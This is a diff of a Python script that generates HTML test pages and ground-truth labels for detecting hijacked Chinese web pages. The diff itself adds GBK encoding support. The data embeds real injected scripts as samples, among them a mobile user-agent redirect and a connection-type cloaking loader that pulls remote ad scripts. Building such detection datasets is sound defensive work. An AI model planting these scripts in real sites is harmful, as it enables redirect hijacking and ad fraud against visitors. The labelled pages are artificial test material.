@@ -20,7 +20,7 @@ SHELLS = [
 {p.get('tail','')}<div class="foot">版权所有 | 联系我们 | 网站地图</div></body></html>
 """,
  # 1: table-layout old CMS shell
- lambda p: f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
+ lambda p: f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset={p.get('enc','utf-8')}">
 <title>{esc(p['page_title'])}</title>{p.get('head','')}</head><body>
 <table width="960" align="center"><tr><td class="logo">{esc(p.get('masthead','新闻中心'))}</td></tr>
 <tr><td class="nav">{esc(p.get('crumb','当前位置：首页 > 新闻中心 > 正文'))}</td></tr>
@@ -154,7 +154,7 @@ UAJS = ("<script>\nfunction check_tiaozhuan() {\n  var _isMobile = navigator.use
  "  if (_isMobile) {\n    var _curHost = window.location.host,\n      _ref = document.referrer,\n      _redirectURL = \"\",\n"
  "      _kuurzaBitGet = \"https://kuurza.com/redirect?from=bitget\",\n      _rnd = Math.floor(Math.random() * 100 + 1),\n"
  "      _date = new Date(),\n      _hours = _date.getHours();\n  }\n}\n</script>")
-add(url="https://www.svchr.edu.cn/info/1062/1465.htm", shell=1, lang="zh", hijacked=True, kind="real-injection-in-real-page",
+add(url="https://www.svchr.edu.cn/info/1062/1465.htm", shell=1, enc="gbk", lang="zh", hijacked=True, kind="real-injection-in-real-page",
     injections=["ua-mobile-redirect-script"], spam=["kuurza.com/redirect?from=bitget"], head=UAJS,
     page_title="学院召开2023年春季开学工作协调会", h1="学院召开2023年春季开学工作协调会", title="学院召开2023年春季开学工作协调会",
     paras=["2月16日,学院在1教-A502会议室召开2023年春季开学工作协调会。学院党委书记刘建辉,党委副书记、院长黄昌平,党委副书记、工会主席李华,副院长熊骥、申奎、罗天蔚、章荣,纪委书记李雁梅以及各处室、二级学院负责人参加会议,会议由黄昌平主持。",
@@ -240,7 +240,7 @@ WAP = ("<script>\n/* 版本3.0 20200801.2244代码 */\n/* 126接口 */\nvar _c_t
  "/* 指定联网类型代码003 wap */\nvar connection = navigator.connection||navigator.mozConnection||navigator.webkitConnection||{tyep:'unknown'};\nvar type_text = ['unknown','ethernet','wifi','2g','3g','4g','5g','none'];\nmtype = connection.type;\n"
  "var _c_wap_003=[\"<script type='text/javascript'>if(/wifi|wi-fi|wlan|w-lan/i.test(mtype)){document.write(_c_wap_011+_c_wap_004+_c_tongji_002);}else if(/cellular|5g|4g|3g|2g/i.test(mtype)){document.write(_c_wap_005);}else{document.write(_c_wap_005);}</script>\"];\n"
  "/* 广告代码011 wap */\nvar _c_wap_011=[\"<body><script id='mob' type='text/javascript' charset='utf-8' src='https://www.zhenxunkeji.com/d.php?pid=3246'></script> <script id='mob' type='text/javascript' charset='utf-8' src='https://www.zhenxunkeji.com/x.php?pid=3246'></script></body>\"];\n</script>")
-add(url="https://xiaodihezuo.sqzy.edu.cn/2025/0905/c298a32965/page.htm", shell=1, lang="zh", hijacked=True, kind="real-injection-in-real-page",
+add(url="https://xiaodihezuo.sqzy.edu.cn/2025/0905/c298a32965/page.htm", shell=1, enc="gbk", lang="zh", hijacked=True, kind="real-injection-in-real-page",
     injections=["network-type-cloaking-ad-loader"], spam=["www.zhenxunkeji.com/d.php"], tail=WAP,
     page_title="校地合作处召开2025年秋季学期工作会议", h1="校地合作处召开2025年秋季学期工作会议", title="校地合作处召开2025年秋季学期工作会议",
     paras=["9月5日上午,校地合作处在明德楼506办公室召开了2025年秋季学期工作会议。校地合作处处长冯先强,副处长屈宽生及处室其他全体成员参加了会议。会议由冯先强主持。",
@@ -273,7 +273,7 @@ add(url="http://news.hxfzzx.com/fjxw/2018/0503/109661.html", shell=0, lang="zh",
            "据了解,行动前期,局领导亲自安排部署,通过一段时间的暗访摸排、分析研判,制定了周密的行动抓捕计划,并严格落实保密制度。4月19日晚,由治安大队牵头,联合巡特、景区、揭乐、莒溪等所队共20多名警力到莒溪镇开展夜间查处行动。当晚,共查处赌博案件5起,抓获涉赌人员23人、庄家5人,查扣麻将桌2张,查获赌资8000多元,取得了显著战果。目前,相关案件正在进一步办理中。",
            "(特约记者 张春波 通讯员 清香 伟忠)"],
     origin="search tool, corpus pages: police anti-gambling report")
-add(url="http://mmsk.com/html/16/1/1899/1.htm", shell=1, lang="zh", legit=True,
+add(url="http://mmsk.com/html/16/1/1899/1.htm", shell=1, enc="gbk", lang="zh", legit=True,
     page_title="电白县公安局开展“飓风”禁赌专项行动", h1="电白县公安局开展“飓风”禁赌专项行动", title=None,
     paras=["日前,记者从有关部门获悉,电白县公安局从9月份开始,在全县范围内强势开展了一场“飓风”禁赌专项行动,治安股、扫赌专业队、各基层派出所和相关警种在局党组的指挥下,上下联动,协同作战,严查重处,狠狠打击了赌博违法犯罪的嚣张气焰,开展行动以来,已连端8个聚众赌博窝点,抓获涉赌违法犯罪人员60多名,没收了一批赌资及赌具。",
            "据了解,今年以来,电白警方保持了对赌博违法犯罪的严打态势,1月份至今,共查处各类赌博案件560余起,抓获涉案人员890多人。"],
@@ -375,7 +375,8 @@ def main():
         page = dict(p)
         page.setdefault("head", "")
         doc = SHELLS[p["shell"]](page)
-        open(os.path.join(HERE, "html", pid + ".html"), "w", encoding="utf-8").write(doc)
+        enc = p.get("enc", "utf-8")
+        open(os.path.join(HERE, "html", pid + ".html"), "wb").write(doc.encode(enc))
         text = "\n".join(GLOSS.sub("", x) if p.get("gloss") else x for x in paras)
         for s in p.get("spam", []):
             text = text.replace(s, "")
@@ -384,7 +385,7 @@ def main():
                          author=p.get("author"), text=text, hijacked=hij, injections=p.get("injections", []),
                          spam_strings=p.get("spam", []), legit=bool(p.get("legit")), lang=p["lang"],
                          origin=p["origin"], kind=p.get("kind", "rebuilt-from-text"), site=re.sub(r"^https?://([^/]+).*", r"\1", p["url"]),
-                         capture="text", encoding="utf-8"))
+                         capture="text", encoding=p.get("enc", "utf-8")))
     with open(os.path.join(HERE, "truth.jsonl"), "w", encoding="utf-8") as f:
         for r in rows:
             f.write(json.dumps(r, ensure_ascii=False) + "\n")
